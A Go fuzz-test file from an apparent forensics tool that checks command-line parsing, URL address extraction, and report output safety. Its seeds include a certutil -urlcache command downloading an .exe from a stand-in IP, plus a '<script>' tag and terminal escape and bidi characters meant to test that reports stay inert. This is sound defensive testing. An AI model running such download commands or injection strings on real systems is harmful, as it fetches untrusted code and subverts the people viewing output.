package origin

import (
	"bytes"
	"encoding/json"
	"io"
	"net/netip"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/birthmark-dfir/birthmark/internal/command"
	"github.com/birthmark-dfir/birthmark/internal/show"
	"github.com/birthmark-dfir/birthmark/internal/winpath"
)

// A command line names a file only if it holds its name, and a quoted path of a
// file always names it.
func FuzzNamesFile(f *testing.F) {
	f.Add(`certutil -urlcache -f http://198.51.100.23/u/a.exe C:\x\a.exe`, `C:\x\a.exe`)
	f.Add(`"C:\x y\ä.exe" /s`, `C:\x y\Ä.exe`)
	f.Add("", "")
	f.Fuzz(func(t *testing.T, line, path string) {
		if namesFile(line, path) && !containsFold(line, winpath.Base(path)) {
			t.Errorf("%q names %q", line, path)
		}
		if winpath.Base(path) != "" && !strings.ContainsAny(path, "\"/") && !namesFile(line+` "`+path+`"`, path) {
			t.Errorf("%q does not name %q", line+` "`+path+`"`, path)
		}
		q := &inquiry{machine: &machine{drive: "C"}, subject: &subject{letter: "C", path: path}}
		e := q.environmentOf("", false)
		if is, _ := q.roleIn(&e, `"`+path+`"`); winpath.HasDrive(path) && !strings.ContainsAny(path, "\"%/:~") && is == "" && command.Clean(path) == path {
			t.Errorf("the command %q does not start itself", path)
		}
		q.roleIn(&e, line)
	})
}

// An address from a URL is a valid address, or the one that was stated.
func FuzzAddressOf(f *testing.F) {
	f.Add("http://203.0.113.77:8080/a.exe", "")
	f.Add("http://[2001:db8::1%25eth0]/", "192.0.2.1")
	f.Add("%zz", "x")
	f.Fuzz(func(t *testing.T, url, stated string) {
		got := addressOf(url, stated)
		if _, err := netip.ParseAddr(got); err != nil && got != stated {
			t.Errorf("addressOf(%q, %q) = %q", url, stated, got)
		}
	})
}

// Whatever the evidence holds, no form of a report lets it act, and the JSON
// preserves it.
func FuzzReport(f *testing.F) {
	f.Add("C:\\x\x1b[2J\u202e.exe", "a  b\nc", int64(7))
	f.Add("<script>", "\xff\xed\xa0\x80\U000e0041", int64(-1))
	f.Fuzz(func(t *testing.T, path, text string, offset int64) {
		c := Citation{Artifact: path, Record: text, Offset: offset, Text: text}
		r := &Report{
			Subject: Subject{Path: path, OwnerSID: text},
			Answers: []Answer{{Question: What, Answer: text, Grade: Recorded, Evidence: []Citation{c, c}, Rivals: []string{text, path},
				Facts: []Fact{{"original_name", text}, {"company", path}}}},
			Contradictions: []Contradiction{{Kind: ContradictionKind(text), Text: path, Touches: []Question{Question(text)}, Evidence: []Citation{c}}},
			Coverage:       []Coverage{{Artifact: path, State: text}},
			Events:         []Event{{Message: text, Path: path, Artifact: path}},
		}
		for _, write := range []func(io.Writer) error{r.WriteText, r.WriteHTML, r.WriteJSON} {
			var b bytes.Buffer
			if err := write(&b); err != nil {
				t.Fatal(err)
			}
			out := b.String()
			if !utf8.ValidString(out) {
				t.Fatalf("not UTF-8: %q", out)
			}
			if strings.ContainsFunc(strings.ReplaceAll(out, "\n", ""), show.Acts) {
				t.Fatalf("something acts in %q", out)
			}
		}
		var b bytes.Buffer
		if err := r.WriteJSON(&b); err != nil {
			t.Fatal(err)
		}
		var back Report
		if err := json.Unmarshal(b.Bytes(), &back); err != nil {
			t.Fatal(err)
		}
		if utf8.ValidString(text) && back.Answers[0].Answer != text {
			t.Errorf("%q came back as %q", text, back.Answers[0].Answer)
		}
	})
}
